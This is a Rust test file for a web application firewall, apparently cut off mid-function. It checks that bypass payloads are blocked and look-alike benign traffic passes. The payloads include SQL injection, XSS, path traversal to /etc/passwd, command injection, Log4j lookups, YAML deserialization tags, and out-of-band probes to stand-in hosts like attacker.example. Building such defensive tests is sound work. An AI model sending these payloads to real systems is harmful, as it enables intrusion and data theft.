#![allow(clippy::unwrap_used, clippy::expect_used)]
//! The bypasses of issue #14, each closed: an attack hidden past the first
//! window of a long value, a query or form body that is one whole payload
//! containing `=`, and encodings servers behind us decode (overlong UTF-8,
//! `%uXXXX`, invalid escapes as separators). Each next to the benign
//! traffic of the same shape that must pass.

mod common;

use common::{
    assert_class, assert_header, assert_placed, assert_queries, every_place_but, form_blocked,
    header_blocked, inspect_with, json_blocked, multipart_blocked, percent_encode, query_blocked,
    verdict, Place, EVERY_PLACE,
};
use rampart_waf::{Exclusion, Policy};

/// Filler a text field really carries: words and punctuation, no attack.
fn filler(n: usize) -> String {
    let words = "the quick brown fox jumps over the lazy dog, and then ";
    words.chars().cycle().take(n).collect()
}

#[test]
fn attack_after_a_long_filler_is_seen_in_form_json_and_raw_bodies() {
    for pad in [16 * 1024, 16 * 1024 - 7, 40 * 1024 + 3, 100 * 1024] {
        let f = filler(pad);
        let attack = "' UNION SELECT password FROM users--";
        let form = format!(
            "comment={}{}",
            f.replace(' ', "+"),
            attack.replace(' ', "+")
        );
        assert!(form_blocked(&form), "form, {pad} bytes of filler");
        let json = format!("{{\"comment\": \"{f}{attack}\"}}");
        assert!(json_blocked(&json), "json, {pad} bytes of filler");
        let raw = format!("{f}<script>alert(document.cookie)</script>");
        assert!(
            verdict("", Some("text/plain"), raw.as_bytes()).block,
            "raw text, {pad} bytes of filler"
        );
        // The same long benign text passes, and nothing is reported cut.
        let v = verdict(
            "",
            Some("application/json"),
            format!("{{\"comment\": \"{f}\"}}").as_bytes(),
        );
        assert!(!v.block, "benign long comment");
        assert!(
            !v.truncated,
            "a value within the body limit is inspected whole"
        );
    }
}

#[test]
fn attack_straddling_a_window_edge_is_seen() {
    // Place the payload at every offset around the 16 KiB edge.
    let attack = "<script>alert(1)</script>";
    for at in (16 * 1024 - 40..16 * 1024 + 8).step_by(3) {
        let json = format!("{{\"c\": \"{}{attack}{}\"}}", filler(at), filler(64));
        assert!(json_blocked(&json), "payload at offset {at}");
    }
}

#[test]
fn whole_payload_query_with_equals_is_inspected_raw() {
    for q in [
        "'%20OR%20'1'='1'%20--",
        "'+OR+'1'='1",
        "1'or'1'='1",
        "%3Cmeta%20http-equiv=%22refresh%22%20content=%220;url=javascript:alert(1)%22%3E",
        "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
        "<svg/onload=alert(1)>",
        "<img src=x onerror=alert(1)>",
        "\"><script>alert(1)</script>=",
    ] {
        assert!(query_blocked(q), "query {q}");
        assert!(form_blocked(q), "form {q}");
    }
    // Ordinary queries with odd but real names pass.
    for q in [
        "q=shoes&size=42&color=black",
        "filter[price][gte]=10&filter[price][lte]=50&sort=-created_at",
        "utm_source=newsletter&utm_medium=email&utm_campaign=spring%20sale",
        "fields%5Bproduct%5D=name,price&page%5Bnumber%5D=2",
        "search=a%3Db&x=1",
        "q=E%3Dmc%C2%B2&lang=en",
        "redirect_to=%2Fmy-account%2F&reauth=1",
        "=&a=1",
        "a==b",
    ] {
        assert!(!query_blocked(q), "benign query {q}");
        assert!(!form_blocked(q), "benign form {q}");
    }
}

#[test]
fn encoded_traversal_is_decoded_as_servers_do() {
    assert_queries(
        true,
        &[
            "file=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
            "file=..%c1%9c..%c1%9c..%c1%9cwindows%c1%9cwin.ini",
            "file=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
            "file=%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
            "file=..%u2216..%u2216..%u2216boot.ini",
            "file=..%%32%66..%%32%66etc%%32%66passwd",
            "file=..%%2f..%%2f..%%2fetc%%2fpasswd",
            "file=..%2%66..%2%66..%2%66etc%2%66passwd",
            "file=..%e0%80%af..%e0%80%af..%e0%80%afetc/passwd",
            // Hex-literal dots and slashes: letters and digits only, so
            // the plain-text shortcut must not skip the path reader.
            "file=0x2e0x2e0x2fetc0x2fpasswd",
            "file=0x2e0x2e0x5c0x2e0x2e0x5cboot.ini",
        ],
    );
    assert_queries(
        false,
        &[
            "q=100%25+cotton&page=2",
            "discount=50%&code=SPRING",
            "name=Jos%C3%A9+%C3%81lvarez",
            "q=%E2%80%9Cquoted%E2%80%9D",
            "path=%2Fcollections%2Fsummer%2Fitems",
        ],
    );
}

#[test]
fn iis_loose_escapes_and_dropped_percent_signs_are_decoded() {
    assert_queries(
        true,
        &[
            "file=..%c0%9v..%c0%9v..%c0%9vetc%c0%9vpasswd",
            "file=..%c0%qf..%c0%qf..%c0%qfetc%c0%qfpasswd",
            "file=..%c1%8s..%c1%8s..%c1%8swindows%c1%8swin.ini",
            "file=..%c1%pc..%c1%pc..%c1%pcwindows%c1%pcwin.ini",
            "id=1+un%ion+se%lect+password+fr%om+users--",
            "q=%3C%script%3Ealert(1)%3C/%script%3E",
            "q=<%s%cr%ipt>alert(1)</%s%cr%ipt>",
        ],
    );
    assert_queries(
        false,
        &[
            "q=50%off+summer+sale",
            "q=100%+cotton",
            "discount=%25&x=5%",
            "q=growth+of+3%+in+Q2",
            "msg=We+are+100%+sure",
        ],
    );
}

#[test]
fn iis_loose_hex_lead_bytes_are_decoded() {
    assert!(query_blocked(
        "file=%5C..%bg%qf%5C..%bg%qf%5C..%bg%qfetc%bg%qfpasswd"
    ));
    assert!(query_blocked(
        "file=..%bg%qf..%bg%qf..%bg%qfwindows%bg%qfwin.ini"
    ));
}

#[test]
fn overlong_dots_after_a_stray_percent_are_a_traversal() {
    let json = r#"{"f": "%%c0%6e%c0%6e\\etc\\passwd"}"#;
    assert!(json_blocked(json));
    assert!(query_blocked(
        "f=%25%25c0%256e%25c0%256e%255cetc%255cpasswd"
    ));
    assert!(!query_blocked("q=up+50%25...+then+down"));
}

/// Session 9: a number literal ends where a database's lexer ends it, so a
/// keyword glued to it is a keyword: MySQL reads `1e0union`, `1.0union`,
/// `\Nunion` as a number (or NULL) then `union`; SQL Server and
/// PostgreSQL < 15 read `1union`, `1or`. Hex, bit and national string
/// literals (`x'50'`, `b'1'`, `n'a'`) are strings. Before: score 0 each.
#[test]
fn sql_literals_glued_to_keywords_and_prefixed_strings() {
    assert_queries(
        true,
        &[
            "id=1e0union+select+1,2",
            "id=1e0UnIoN+SeLeCt+1,2",
            "id=1.0union+select+1,2",
            "id=-1.e1union(select+1,2)",
            "id=%5CNunion+select+1,2",
            "id=1+or+x'50'=x'50'",
            "id=1+or+b'1'=b'1'",
            "id=1'+or+n'a'=n'a'--",
        ],
    );
    assert_queries(
        false,
        &[
            "q=3rd+floor,+room+10b",
            "q=10px+or+12px",
            "q=version+1.2beta+or+1.3rc",
            "q=1.5x+zoom+and+2.0x",
            "q=4x4+or+6x6+tyres",
            "q=size+10.5uk+or+11uk",
            "q=n'importe+quoi",
            "q=rock+n'+roll",
            "q=x'mas+sale",
            "q=1st+and+2nd",
            "q=12.5%25+off,+select+items",
        ],
    );
}

/// Session 9: an out-of-band probe (`& nslookup x.collaborator.example &`,
/// Burp's `&nslookup evil.example&'\"`0&nslookup …`) names a host, not a
/// path or option: a host name is a network tool's shell-shaped argument.
/// Before: score 0 each.
#[test]
fn network_tool_with_a_host_name_after_a_separator() {
    assert_queries(
        true,
        &[
            "host=x+%26+nslookup+x.attacker.example+%26",
            "host=%26nslookup+evil.example%26'%5C%22%600%26nslookup+evil.example%26%60'",
            "host=x%7Cnslookup+evil.example%7C",
            "host=x%7C+nslookup+x.attacker.example",
            "host=a;dig+evil.example",
            "host=a;host+evil.example",
            "host=a%0awhois+evil.example",
        ],
    );
    assert_queries(
        false,
        &[
            "q=Tom+%26+Jerry",
            "q=Hosting+%7C+host+your+own+site",
            "q=dig+deeper;+host+parties",
            "q=Q%26A+%7C+ping+pong",
            "q=web+%26+host+example.com",
            "q=Tom+%26+ping+pong.com",
            "q=Shop+%7C+host.example.com",
            // Review of session 9: support text goes on after the host.
            "msg=Our+site+is+down.%0APing+example.com+times+out",
            "q=site+down;+ping+example.com+fails",
            "msg=Steps:%0Assh+build.example.org+then+deploy",
            "msg=%0Adig+example.com+returns+NXDOMAIN",
        ],
    );
}

/// Session 9: a name is attack surface like a value (#14) in every
/// placement: multipart field names (read as part headers only before),
/// and traversal in query names and JSON keys. Before: score 0 each.
#[test]
fn names_are_inspected_in_every_placement() {
    assert!(multipart_blocked(&[(
        "x' union select password from users--",
        "1"
    )]));
    assert!(multipart_blocked(&[(";cat /etc/passwd", "1")]));
    assert!(query_blocked("..%2f..%2f..%2fetc%2fpasswd=1"));
    assert!(query_blocked("../../../etc/passwd=1"));
    assert!(json_blocked(r#"{"../../../etc/passwd": 1}"#));
    assert!(json_blocked(
        r#"{"\u002e\u002e/\u002e\u002e/etc/passwd": 1}"#
    ));
    assert!(!multipart_blocked(&[
        ("user[email]", "a@example.com"),
        ("files[]", "x"),
        ("data[0][name]", "Ann"),
        ("g-recaptcha-response", "03AGdBq24"),
    ]));
    assert!(!json_blocked(
        r#"{"/api/v1/users": 1, "@context": "https://schema.org", "a.b.c": 2}"#
    ));
}

/// Session 9: the client address header is application input (logged,
/// passed to scripts): command injection in it is read as in a value.
/// Before: score 0 each.
#[test]
fn command_injection_in_x_forwarded_for() {
    let xff = "X-Forwarded-For";
    assert_header(
        xff,
        true,
        &["127.0.0.1;whoami", "127.0.0.1$(id)", "10.0.0.1`id`"],
    );
    assert_header(
        xff,
        false,
        &[
            "203.0.113.5, 10.0.0.1",
            "2001:db8::1, 10.0.0.1",
            "unknown, 10.0.0.1",
        ],
    );
}

/// `..%%32%66` decodes to `../` in two rounds (the inner `%32%66` first,
/// as IIS's double decoding and a second `urldecode` do): caught in a
/// JSON value as in a query. (PayloadsAllTheThings' `..%%32%%66etc…`
/// decodes to `..%2%fetc` then `..%2\xfetc` under every decoder: no
/// separator, not a traversal; see docs/waf-measurement.md.)
#[test]
fn double_percent_traversal_in_json() {
    assert!(json_blocked(
        r#"{"f": "..%%32%66..%%32%66etc%%32%66passwd"}"#
    ));
}

/// Session 9: a prefix that runs the next word (`eval`, `exec`, `sudo`,
/// `nohup`, `time`…), a subshell `(` or a negation `!` keeps the command
/// position open. Before: score 0 each.
#[test]
fn command_prefixes_and_subshells_keep_the_command_position() {
    assert_queries(
        true,
        &[
            "h=a;eval+id",
            "h=a;exec+id",
            "h=a%7Csudo+whoami",
            "h=a;command+uname",
            "h=a;(id)",
            "h=a;!+id",
        ],
    );
    assert_queries(
        false,
        &[
            "q=notes;+exec+summary",
            "q=Sales;+time+management",
            "q=color:red;!important",
            "q=see+page+3;+(id+est)",
        ],
    );
}

/// Session 9: edge-side includes, the cache-side neighbour of SSI
/// (Varnish, Akamai, Squid, Fastly parse them): an include of a URL,
/// variables (`$(HTTP_COOKIE)`), debug output. Before: score 0 each but
/// the `esi:inline` line (5, as XSS: rule 2013).
#[test]
fn edge_side_includes() {
    assert_queries(
        true,
        &[
            "q=x+%3Cesi:include+src=%22http://evil.example/%22/%3E",
            "q=%3C!--esi+%3Cesi:include+src=%22http://evil.example/%22/%3E+--%3E",
            "q=%3Cesi:inline+name=%22/x%22+src=%22http://evil.example/%22/%3E",
            "q=x%3Cesi:debug/%3E",
            "q=%3Cesi:vars%3Ehello%3C/esi:vars%3E",
        ],
    );
    assert_queries(
        false,
        &[
            "q=how+to+configure+esi+includes+in+varnish",
            "q=ESI:+edge+side+includes",
        ],
    );
}

/// Session 9: MySQL 8's `VALUES` and `TABLE` statements after UNION
/// (`' union table users--`), and `!` as NOT. Before: score 0 each.
#[test]
fn union_values_table_and_bang_not() {
    assert_queries(
        true,
        &[
            "id='+union+values(1)--",
            "id=1+union+values+row(1,2)",
            "id='+union+table+users--",
            "id=1+and+!(1=2)",
        ],
    );
    assert_queries(
        false,
        &[
            "q=European+Union+table+tennis+open",
            "q=union+values+and+rights",
            "q=it's+the+union+table+at+noon",
            "q=wow!+(great)",
            // Review of session 9: prose with `union values (`, `union table`, `!`.
            "q=European+Union+values+(democracy,+rule+of+law)",
            "q=The+credit+union+values+(and+protects)+your+savings",
            "q=Workers'+Union+table+tennis+league",
            "q=Students'+Union+table+bookings",
            "q=Hello!+kids+aged+3+and+5+%3E+2+years",
        ],
    );
}

/// Session 9: a cookie's *name* is read like a query name (CRS reads
/// REQUEST_COOKIES_NAMES for SQL, command, traversal and Java rules):
/// applications iterate their cookies and log them. Before: score 0 each.
#[test]
fn cookie_names_are_inspected() {
    assert_header(
        "Cookie",
        true,
        &[
            "a=b; 1' union select password from users--=1",
            "a=b; ../../../etc/passwd=1",
            "a=b; ${jndi:ldap://x.example/a}=1",
            "a=b; $(id)=1",
        ],
    );
    assert_header(
        "Cookie",
        false,
        &[
            "_ga=GA1.2.3; _ga_ABC123=GS1.1.1; wp_woocommerce_session_0a1b=7||1733913600||1733910000||8e4b",
            "AMCV_1234%40AdobeOrg=x; __Secure-3PSID=abc; OptanonConsent=isIABGlobal=false&datestamp=Mon",
            "cart.items=2; user-prefs=dark; _dd_s=rum=0&expire=1",
        ],
    );
}

/// Session 9: SQL Server takes the control bytes 0x01-0x0f as blanks
/// (sqlmap's `space2mssqlblank` tamper); the tokenizer does too. (0x10-0x1f
/// stay word bytes: a scrambled legit-dev cookie holds `"\x1e#`, which read
/// as blank would be a quote then a comment.) Before: score 0 each.
#[test]
fn control_bytes_as_sql_blanks() {
    assert_queries(
        true,
        &[
            "id=1%27%01union%01select%01password%01from%01users--",
            "id=1%27%0funion%0fselect%0fpassword%0ffrom%0fusers--",
            "id=1%27%08or%0e1=1--",
        ],
    );
}

/// Session 9: loopback written short (`127.1`, `0`: inet_aton reads both)
/// in a fetched URL, and unsafe YAML deserialization tags. Before: score
/// 0 each but the SnakeYAML line (10, as Java: rules 7002, 7005).
#[test]
fn short_loopback_urls_and_yaml_object_tags() {
    assert_queries(
        true,
        &[
            "url=http://127.1/admin",
            "url=http://0/",
            "url=http://0:8080/admin",
            "doc=!!python/object/apply:os.system+[%22id%22]",
            "doc=a:+!!python/name:os.system",
            "doc=!ruby/object:Gem::Installer+i:+x",
            "doc=!!javax.script.ScriptEngineManager+[!!java.net.URLClassLoader+[[!!java.net.URL+[%22http://evil.example/%22]]]]",
        ],
    );
    assert_queries(
        false,
        &[
            "url=https://shop.example/p/127.1",
            "q=version+127.1+released",
            "q=python+yaml+tags+tutorial",
            "q=Great!!+python/django+job",
        ],
    );
}

/// Review of session 9: a number glued to control-byte blanks, no quote
/// and no comma (`1\x01union\x01select…`): the SQL detector's trigger set
/// now holds every byte its tokenizer takes as a blank (SQL Server's
/// 0x01-0x0f, MySQL's 0xa0), so the value reaches it. Before: score 0 each.
/// (`1\xa0union\xa0select…` was already caught, by rule 1005.)
#[test]
fn control_byte_blanks_in_a_number_context() {
    assert_queries(
        true,
        &[
            "id=1%01union%01select%01password%01from%01users",
            "id=1%0eunion%0eselect%0epassword%0efrom%0eusers",
            "id=1%07union%07all%07select%07null",
        ],
    );
    assert_queries(false, &["q=caf%C3%A9%C2%A0cr%C3%A8me", "q=voil%C3%A0"]);
}

/// Review of session 9: MySQL's `\N` (NULL) glued to UNION is read by rule
/// 1005 (rule 1001's js_decode reads `\N` as `N`); every placement of the
/// literal before the keyword.
#[test]
fn mysql_null_literal_glued_to_union() {
    assert_queries(
        true,
        &[
            "id=%5CNunion+select+1,2",
            "id=%5CNunion+all+select+1,2",
            "id=%5CNunion(select+1,2)",
            "id=%5CN,%5CNunion+distinct+select+1,2",
        ],
    );
}

/// Review of session 9: YAML tags spelled in full (`!<tag:yaml.org,2002:…>`)
/// or through a `%TAG` directive, and every ESI element (`<esi:choose>`,
/// `<esi:try>`…), not a list of spellings. Before: score 0 each.
#[test]
fn yaml_tags_in_full_and_every_esi_element() {
    assert_queries(
        true,
        &[
            "doc=!%3Ctag:yaml.org,2002:python/object/apply:os.system%3E+[%22id%22]",
            "doc=%25TAG+!p!+tag:yaml.org,2002:python/%0A---%0A!p!object/apply:os.system+[%22id%22]",
            "doc=---+!%3Ctag:ruby.yaml.org,2002:object:Gem::Installer%3E%0Ai:+x",
            "doc=%25TAG+!r!+tag:ruby.yaml.org,2002:%0A---%0A!r!object:Gem::Installer%0Ai:+x",
            "q=%3Cesi:choose%3E%3Cesi:when+test=%221==1%22%3Ex%3C/esi:when%3E%3C/esi:choose%3E",
            "q=%3Cesi:try%3E%3Cesi:attempt%3Ex%3C/esi:attempt%3E%3C/esi:try%3E",
            "q=a%3Cesi:remove%3Ex%3C/esi:remove%3E",
        ],
    );
    assert_queries(
        false,
        &[
            "doc=%25YAML+1.2%0A---%0A!!str+hello",
            "doc=!%3Ctag:yaml.org,2002:str%3E+hello",
            "q=esi+choose+when+try+tags",
        ],
    );
}

/// Unpadded base64 made only of letters and digits was taken for a plain
/// word (listed as nothing, decoded by no chain): `<script>alert(1)</script>`
/// and a node-serialize payload passed with score 0. Rules 2004 and 3016
/// read them now in a query arg, a cookie, a form field and a JSON value;
/// mixed-case ids and tokens (they decode to binary) still pass.
#[test]
fn unpadded_base64_of_letters_and_digits_is_decoded() {
    let script = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0PiAg";
    let node = "eyJyY2UiOiJfJCRORF9GVU5DJCRfZnVuY3Rpb24oKXtyZXF1aXJlKCdjaGlsZF9wcm9jZXNzJykuZXhlYygnaWQnKX0oKSJ9";
    for (value, rule) in [(script, 2004), (node, 3016)] {
        let q = format!("q={value}");
        let v = verdict(&q, None, b"");
        assert!(
            v.matches.iter().any(|m| m.rule_id == rule),
            "query {q}: {v:?}"
        );
        assert!(v.block, "query {q}");
        let cookie = format!("profile={value}");
        let v = inspect_with(
            &Policy::default(),
            "GET",
            "/",
            "",
            &[("Host", b"shop.example"), ("Cookie", cookie.as_bytes())],
            b"",
        );
        assert!(
            v.block && v.matches.iter().any(|m| m.rule_id == rule),
            "cookie {cookie}: {v:?}"
        );
        assert!(form_blocked(&q), "form {q}");
        assert!(
            json_blocked(&format!("{{\"q\":\"{value}\"}}")),
            "json {value}"
        );
    }
    // Session ids, API keys and hashes of the same alphabet pass.
    assert_queries(
        false,
        &[
            "sid=Xk3mP9qLr2Vb7TnW4cZa8Hd1",
            "token=AKIAIOSFODNN7EXAMPLEwJalrXUtnFEMIK7MDENG",
            "state=af0ifjsldkjQWErtyUIOp1234",
            "v=dGhlIHF1aWNrIGJyb3duIGZveA",
            "id=ZWRpdG9yMTIzNDU2Nzg5MA",
        ],
    );
}

/// Prototype pollution through nested JSON keys: `constructor` then
/// `prototype`, each a plain word on its own, reach `Object.prototype` as
/// `constructor[prototype]` does in a query. Before: score 0. The same words
/// elsewhere (a `prototype` key under another parent, prose) pass.
#[test]
fn prototype_pollution_by_nested_json_keys() {
    for body in [
        r#"{"constructor": {"prototype": {"isAdmin": true}}}"#,
        r#"{"user": {"constructor": {"prototype": {"role": "admin"}}}}"#,
        r#"[{"constructor":{"prototype":{"polluted":1}}}]"#,
    ] {
        assert!(json_blocked(body), "passed: {body}");
    }
    assert!(query_blocked("constructor[prototype][isAdmin]=1"));
    for body in [
        r#"{"design": {"prototype": {"stage": "v2"}}}"#,
        r#"{"constructor": "Acme Builders", "prototype": "ready"}"#,
        r#"{"constructor": {"name": "Acme"}, "notes": "the prototype is ready"}"#,
    ] {
        assert!(!json_blocked(body), "blocked: {body}");
    }
}

/// Where the shell rules read a value: arguments, bodies, multipart fields
/// and long text (not cookie values: `;` separates cookies).
const SHELL_PLACES: &[Place] = &[
    Place::Query,
    Place::Form,
    Place::Json,
    Place::JsonNested,
    Place::Multipart,
    Place::AfterFiller,
];

/// Session 10: a command stored in a variable, then run (`;x=id;$x`,
/// `a=c;b=at;$a$b /etc/passwd`, cmd.exe's `set x=…&call %x%`), a variable
/// holding the command and its arguments (`x='cat /etc/passwd';$x`), and a
/// default value (`${x:-id}`): the shell reader remembers what the value
/// assigns and expands it. Before: score 0 each.
#[test]
fn a_command_stored_in_a_variable_then_run() {
    assert_placed(
        true,
        SHELL_PLACES,
        &[
            ";x=id;$x",
            "a=c;b=at;$a$b /etc/passwd",
            "q;c=cat;$c /etc/shadow",
            "x|a=i;b=d;$a$b",
            "x;cmd=uname;${cmd} -a",
            "x&&v=whoami&&$v",
            "x;export X=id;$X",
            ";x='cat /etc/passwd';$x",
            "a;u=who;v=ami;\"$u$v\"",
            "&set x=who&set y=ami&call %x%%y%",
            ";${x:-id}",
            "1`x=id;$x`",
            // Review of session 10: eight `k=v` before the command filled
            // the table, and `x=id` was forgotten.
            ";a=1;b=1;c=1;d=1;e=1;f=1;g=1;h=1;x=id;$x",
            ";a0=1;a1=1;a2=1;a3=1;a4=1;a5=1;a6=1;a7=1;a8=1;a9=1;b0=1;b1=1;b2=1;b3=1;b4=1;b5=1;b6=1;b7=1;b8=1;b9=1;c0=1;c1=1;c2=1;c3=1;c4=1;c5=1;c6=1;c7=1;c8=1;c9=1;d0=1;d1=1;d2=1;d3=1;x=id;$x",
            // A reassigned name is recent again (final review of session 10).
            ";x=a;a0=1;a1=1;a2=1;a3=1;a4=1;a5=1;a6=1;a7=1;a8=1;a9=1;b0=1;b1=1;b2=1;b3=1;b4=1;b5=1;b6=1;b7=1;b8=1;b9=1;c0=1;c1=1;c2=1;c3=1;c4=1;c5=1;c6=1;c7=1;c8=1;c9=1;d0=1;x=id;d1=1;$x",
        ],
    );
    assert!(multipart_blocked(&[(";x=id;$x", "1")]), "multipart name");
    assert_header("X-Forwarded-For", true, &["10.0.0.1;x=id;$x"]);
    assert_placed(
        false,
        SHELL_PLACES,
        &[
            "a=b;c=d",
            "x=1; y=2; $x",
            "price=$5; total=$10",
            "id=5;name=$name",
            "a=who;b=$a",
            "foo=bar&baz=$foo",
            "t=${title:-Untitled}",
            "Hello ${name:-friend}",
            "user=admin;$user",
            "a=1;b=2;$a$b",
            "let total = price * qty; $total",
            "export PATH=$PATH:/usr/local/bin",
        ],
    );
}

/// Session 10: cmd.exe variables whose name starts with two hex digits
/// (`%cd%`, `%date%`) were turned into one byte by the shell rule's second
/// percent-decoding (`%cd` is 0xCD), so `|echo %cd%` read as `echo` and a
/// byte. Rule 3034 reads the value as the application received it.
/// Before: score 0 each.
#[test]
fn windows_variables_lost_to_a_second_percent_decoding() {
    assert_placed(
        true,
        SHELL_PLACES,
        &[
            "|echo %cd%",
            "&echo %date%",
            "|dir %cd%",
            "x&&echo %CD%",
            ";type %cd%\\web.config",
            "x&echo %CD:~0,1%",
        ],
    );
    assert_placed(
        false,
        SHELL_PLACES,
        &[
            "50% off | ad %cd% copy",
            "Use %cd% in batch files",
            "echo %cd% prints the folder",
            "sale %da% | new",
            "A%20B | C%2FD",
        ],
    );
}

/// Session 10: SQL that continues a condition with a JSON or array
/// operator (PostgreSQL `->>`, `#>`, `@>`, `?|`, a `::jsonb` cast), and a
/// scalar subquery where ORDER BY, LIMIT or a column list expects a name
/// or a number. Before: score 0 each.
#[test]
fn sql_json_operators_and_scalar_subqueries() {
    // A number's context is the whole value (no text before it).
    let whole = every_place_but(Place::AfterFiller);
    assert_placed(
        true,
        &whole,
        &[
            "1 and data->>'role'='admin'",
            "1 and info->'a'->>'b' = 'x'",
            "(select 1)",
        ],
    );
    assert_placed(
        true,
        EVERY_PLACE,
        &[
            "x' or payload::jsonb ? 'admin'--",
            "' or attrs ?| array['a']--",
            "' and doc #>> '{a,b}' = 'x'--",
            "name,(select 1)",
            "1 limit (select 1)",
            "id desc,(select null)",
            "price,(select @@version)",
            "' or payload ? 'admin'--",
            "x' or (select password from users where id=1)='a",
            "1 and (select name from mysql.user)",
        ],
    );
    assert_placed(
        false,
        EVERY_PLACE,
        &[
            "Use data->>'name' to read a JSON field",
            "q and a->'b'",
            "Rock and roll -> 'best of'",
            "the arrow -> points to 'next'",
            "sort=name,price",
            "order=created_at desc",
            "(select one)",
            "Please (select all that apply)",
            "Size (select 1 of 3)",
            "(Select a category)",
            // Review of session 10: prose with a quote and a question
            // mark (1019), help text with `select … from` (1020).
            "Do you prefer 'tea' or coffee? 'Tea' is my pick",
            "\"yes\" or no? \"maybe\"",
            "Would you say 'yes' or no? 'maybe' later",
        ],
    );
    // Help text with `(select … from …)`: no table after `from`, so no
    // scalar subquery (1020). (The SQL detector, rule 1001, still reads
    // `or (select one from your library)` as SQL: not this rule's doing.)
    for v in [
        "Upload a photo or (select one from your library)",
        "Crop it, or (select a frame from the gallery below)",
        "Tap or (select one from the list below)",
    ] {
        let q = format!("q={}", common::percent_encode(v));
        let hits: Vec<u32> = verdict(&q, None, b"")
            .matches
            .iter()
            .map(|m| m.rule_id)
            .collect();
        assert!(!hits.contains(&1020), "{v}: {hits:?}");
    }
}

/// Session 10: XPath injection (no rule read it): a quote break-out, then
/// a union of a location path or a condition on the document's nodes.
/// Before: score 0 each.
#[test]
fn xpath_break_outs() {
    assert_placed(
        true,
        EVERY_PLACE,
        &[
            "'] | //user/*[contains(*,'",
            "' or string-length(name(/*[1]))=5 or ''='",
            "' or //user[1]/password='x",
            "' | //* | '",
            "')] | //password | a[('",
            "x' and count(/*)=1 and 'a'='a",
        ],
    );
    assert_placed(
        false,
        EVERY_PLACE,
        &[
            "he said 'hi' | //comment",
            "'quoted' | //www.example.com",
            "see 'docs' | /*comment*/",
            "Tom's | //twitter.com/tom",
            "O'Neil or /home/x",
            "it's or //",
        ],
    );
}

/// Session 10: a template-evaluation probe is arithmetic of number
/// literals between any engine's delimiters (doT's `{{=`, an array
/// `{{[7*7]}}`, Razor's `@(…)`, `%{…}`, `{%= %}`), not the spellings of
/// one list. Before: score 0 each. (Not cookies: rule 9006 leaves them to
/// 9002's spellings, or a consent cookie's `{` would open it on every request.)
#[test]
fn template_arithmetic_probes_in_any_delimiters() {
    let places = every_place_but(Place::Cookie);
    assert_placed(
        true,
        &places,
        &[
            "{{= 7*7}}",
            "{{[7*7]}}",
            "@(1+2)",
            "%{7*7}",
            "{%= 7*7 %}",
            "{{ 1337 - 1 }}",
            "${ 49 / 7 }",
            "{{'7'*7}}",
        ],
    );
    assert_placed(
        false,
        EVERY_PLACE,
        &[
            "Total {{price}}",
            "{{ user.name }} ordered {{count}}",
            "`Total: ${a * b}`",
            "{{count + 1}}",
            "<%= i + 1 %>",
            "{7*7}",
            "7*7=49",
            "Version 2.0 (2024) - 3*4 grid",
        ],
    );
}

/// Session 10: response splitting in a body field through a Refresh header
/// with its own value shape (`Refresh: 0;url=…`), as Location already was.
/// Before: score 0 in a form or JSON body.
#[test]
fn refresh_header_injected_in_a_body_field() {
    assert_placed(
        true,
        &[Place::Form, Place::Json, Place::Multipart],
        &[
            "x\r\nRefresh: 0;url=//evil.example",
            "x\nrefresh:5; URL=https://evil.example/",
        ],
    );
    assert_placed(
        false,
        &[Place::Form, Place::Json, Place::Multipart],
        &["Line1\nRefresh: please", "Note\nrefresh: 5 minutes later"],
    );
}

/// A signed JSON Web Token whose payload is `claims`.
fn jwt(claims: &str) -> String {
    jwt_with(r#"{"alg":"HS256","typ":"JWT"}"#, claims)
}

/// A signed JSON Web Token of `header` and `claims`.
fn jwt_with(header: &str, claims: &str) -> String {
    use base64::engine::general_purpose::URL_SAFE_NO_PAD;
    use base64::Engine;
    let h = URL_SAFE_NO_PAD.encode(header.as_bytes());
    let p = URL_SAFE_NO_PAD.encode(claims.as_bytes());
    format!("{h}.{p}.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c")
}

/// Tokens blocked (`expect`) or passed in a parameter, a form, JSON, a
/// cookie and a Bearer token.
fn assert_tokens(expect: bool, tokens: &[String]) {
    let t: Vec<&str> = tokens.iter().map(String::as_str).collect();
    assert_placed(
        expect,
        &[Place::Query, Place::Form, Place::Json, Place::Cookie],
        &t,
    );
    let bearer: Vec<String> = tokens.iter().map(|t| format!("Bearer {t}")).collect();
    let b: Vec<&str> = bearer.iter().map(String::as_str).collect();
    assert_header("Authorization", expect, &b);
}

/// Claims of one attack each: SQL in `sub`, markup in `name`, a traversal
/// or a command in `kid`, a Log4j lookup.
const JWT_ATTACK_CLAIMS: &[&str] = &[
    r#"{"sub":"' or 1=1--","iat":1516239022}"#,
    r#"{"name":"<script>alert(1)</script>"}"#,
    r#"{"kid":"../../../../etc/passwd"}"#,
    r#"{"kid":"key;cat /etc/passwd"}"#,
    r#"{"user":"${jndi:ldap://x.example/a}"}"#,
];

/// Claims of real tokens: ids, names with an apostrophe, issuers, scopes.
const JWT_BENIGN_CLAIMS: &[&str] = &[
    r#"{"user":"alice","role":"user","exp":1700000000}"#,
    r#"{"sub":"1234567890","name":"John O'Neil","iat":1516239022}"#,
    r#"{"iss":"https://auth.example.com/","aud":["api"],"scope":"read:orders write:cart"}"#,
    r#"{"email":"a.b@example.com","roles":["admin","editor"],"path":"/account/orders"}"#,
];

/// Session 10: attacks inside a JSON Web Token's claims (SQL in `sub`,
/// markup in `name`, a traversal or a command in `kid`, a Log4j lookup)
/// were never read: a dotted token with digits was taken for a plain id
/// and skipped. Now its parts are decoded and each claim read, in a
/// parameter, a form, JSON, a cookie and a Bearer token. Before: score 0.
#[test]
fn attacks_inside_jwt_claims() {
    for (expect, claims) in [(true, JWT_ATTACK_CLAIMS), (false, JWT_BENIGN_CLAIMS)] {
        let tokens: Vec<String> = claims.iter().map(|c| jwt(c)).collect();
        assert_tokens(expect, &tokens);
    }
}

/// Review of session 10: tokens that hid their claims from every reader.
/// A claim in a non-Latin script dropped its whole part (header `kid`
/// included) as "not text"; keyword-only SQL and a brace command were
/// "plain words" to the plain-token skip (parameters and cookies); a
/// header with a line break or a tab after `{` is base64 `ew…`, not
/// `ey…`. Before: passed in parameters and cookies (the first three) or
/// everywhere.
#[test]
fn jwt_claims_in_any_script_spacing_and_words() {
    let hs = r#"{"alg":"HS256","typ":"JWT"}"#;
